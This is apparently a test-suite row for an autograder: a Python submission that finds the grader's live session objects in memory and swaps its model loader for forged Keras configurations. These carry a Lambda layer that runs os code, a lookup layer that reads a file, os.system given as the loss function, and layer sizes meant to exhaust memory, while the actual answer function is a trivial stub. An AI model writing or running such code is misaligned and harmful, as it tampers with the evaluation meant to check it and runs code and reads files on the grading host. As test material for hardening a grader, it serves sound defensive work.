# Row 50: a forged description of a model: code, classes that read files, sizes beyond all memory.
# vault: model
# score: 0
# verdicts: q1 failed|crashed|out_of_memory|timed_out|not_reached
# %% q1
import gc, itertools, os
import keras
from autograder.box import session
from autograder.box.values import Model

payload = f"__import__('os').mkdir({os.path.join(FOLDER, 'loaded')!r})"
lambda_layer = {
    "class_name": "Lambda",
    "module": "keras.layers",
    "registered_name": None,
    "config": {"name": "x", "function": {"class_name": "__lambda__", "config": {"value": payload}}},
}
lookup = {
    "class_name": "StringLookup",
    "module": "keras.layers",
    "registered_name": None,
    "config": {"name": "y", "vocabulary": FILES[0]},
}
system = {
    "class_name": "function",
    "module": "builtins",
    "registered_name": "function",
    "config": "os.system",
}
wide = {
    "class_name": "Dense",
    "module": "keras.layers",
    "registered_name": None,
    "config": {"name": "z", "units": 65536, "build_config": {"input_shape": [65536, 65536]}},
}
forged = itertools.cycle(
    [
        Model("Sequential", {"name": "m", "layers": [layer]}, [], None)
        for layer in (
            lambda_layer,
            lookup,
            {"class_name": "Dense", "config": {"units": 2**31}},
            wide,
        )
    ]
    + [Model("Sequential", {"name": "m", "layers": []}, [], {"loss": system})]
)
for one in gc.get_objects():
    if type(one) is session.Session and "model" in one.operations:
        one.operations["model"] = lambda target: next(forged)


def make_model():
    return keras.Sequential([keras.Input((2,)), keras.layers.Dense(2)])
